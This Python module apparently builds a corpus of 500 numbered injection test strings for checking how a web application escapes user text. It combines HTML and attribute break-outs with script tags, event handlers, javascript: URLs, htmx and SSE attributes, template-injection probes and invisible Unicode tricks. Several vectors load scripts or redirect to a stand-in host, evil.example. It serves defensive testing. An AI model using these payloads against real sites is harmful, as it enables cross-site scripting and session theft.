"""500 texts that want to be more than text: break-outs times vectors. Each says its number, and marks what it makes."""

from itertools import product

BREAK_OUTS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "--></p>",
    "</textarea></title>",
    "</script></style>",
    "</option></select>",
    "]]>`",
)
"""What a text could stand in when it is put on a page."""
HIT = "window.__hit=1"
AWAY = "//evil.example/x"
VECTORS = (
    f"<script data-pwn>{HIT}</script>",
    f"<ScRiPt data-pwn src={AWAY}.js></ScRiPt>",
    f'<script data-pwn type=module>import "{AWAY}.js"</script>',
    f"<script data-pwn type=text/hyperscript>{HIT}</script>",
    f"<img data-pwn src=x onerror={HIT}>",
    f"<img data-pwn src={AWAY}.png>",
    f"<svg data-pwn onload={HIT}>",
    f"<svg data-pwn><script>{HIT}</script></svg>",
    f"<svg data-pwn><animate attributeName=x dur=1s onbegin={HIT}></svg>",
    f'<svg data-pwn><a xlink:href="javascript:{HIT}"><text>x</text></a></svg>',
    f"<math data-pwn><mtext><img src=x onerror={HIT}></mtext></math>",
    '<iframe data-pwn srcdoc="<script>parent.__hit=1</script>"></iframe>',
    f"<iframe data-pwn src=javascript:parent.{HIT}></iframe>",
    f"<object data-pwn data={AWAY}></object>",
    f"<embed data-pwn src={AWAY}>",
    f"<video data-pwn><source onerror={HIT}></video>",
    f"<audio data-pwn src=x onerror={HIT}></audio>",
    f"<body data-pwn onload={HIT}>",
    f"<details data-pwn open ontoggle={HIT}>",
    f"<input data-pwn autofocus onfocus={HIT}>",
    f"<marquee data-pwn onstart={HIT}>x</marquee>",
    f'<a data-pwn href="javascript:{HIT}">x</a>',
    f'<a data-pwn href="jav&#x09;ascript:{HIT}">x</a>',
    f"<form data-pwn action=javascript:{HIT}><button>x</button></form>",
    f"<button data-pwn formaction=javascript:{HIT}>x</button>",
    f"<meta data-pwn http-equiv=refresh content=0;url={AWAY}>",
    "<base data-pwn href=//evil.example/>",
    f"<link data-pwn rel=stylesheet href={AWAY}.css>",
    f'<style data-pwn>@import "{AWAY}.css";</style>',
    f'<p data-pwn style="background:url({AWAY}.png)">x</p>',
    f" style=background:url({AWAY}.png) data-pwn=",
    f" onmouseover={HIT} data-pwn=",
    f" autofocus tabindex=0 onfocus={HIT} data-pwn=",
    f" hx-get={AWAY} hx-trigger=load data-pwn=",
    '<div data-pwn hx-get="/admin/log" hx-trigger="load"></div>',
    f'<div data-pwn hx-on:htmx:load="{HIT}" hx-on--load="{HIT}"></div>',
    f'<div data-pwn data-hx-on="load: {HIT}"></div>',
    f'<div data-pwn hx-ext="sse" sse-connect="{AWAY}" sse-swap="news"></div>',
    '<div data-pwn id="said" hx-swap-oob="true">x</div>',
    f"<template data-pwn><img src=x onerror={HIT}></template>",
    f'<!--<i title="--><img data-pwn src=x onerror={HIT}>">',
    f"<![CDATA[<img data-pwn src=x onerror={HIT}>]]>",
    f"\n\nevent: news\ndata: <img data-pwn src=x onerror={HIT}>\nretry: 1\n\n",
    "{{ 1337*7331 }}{% if true %}{{ self }}{% endif %}{# x #}",
    "${1337*7331} #{1337*7331} <%= 1337*7331 %> [[ 1337*7331 ]]",
    "{name} {0.__class__} {lab} {} %(name)s %s %n {day!r}",
    f"\u202e<img data-pwn src=x onerror={HIT}>\u202c \u2067abc\u2069 \u200f\u061c",
    f"<\u200bscript data-pwn>{HIT}</\u200bscript>\u200b\u2060\ufeff\u00ad",
    "\ufffd\u00c0\u00bcscript data-pwn\u00c0\u00be+ADw-script+AD4- %3Cscript%3E \x0b\x1b[31m",
    f"&lt;img data-pwn src=x onerror={HIT}&gt;&#60;script&#62; \uff1cscript data-pwn\uff1e",
)
SUM = str(1337 * 7331)
"""What stands on a page where a template was made of what somebody wrote."""
UNSEEN = "\u202e\u202c\u2067\u200f\u061c\u200b\u2060\ufeff\u00ad\x0b\x1b"
"""What hides itself: in a name each is shown as a sign."""
PAYLOADS = tuple(
    f"p{number:03} {before}{vector}" for number, (before, vector) in enumerate(product(BREAK_OUTS, VECTORS))
)
ALL = "\n".join(PAYLOADS)


def in_pieces(count: int) -> list[str]:
    """All of them in so many texts."""
    size = -(-len(PAYLOADS) // count)
    return ["\n".join(PAYLOADS[first : first + size]) for first in range(0, len(PAYLOADS), size)]
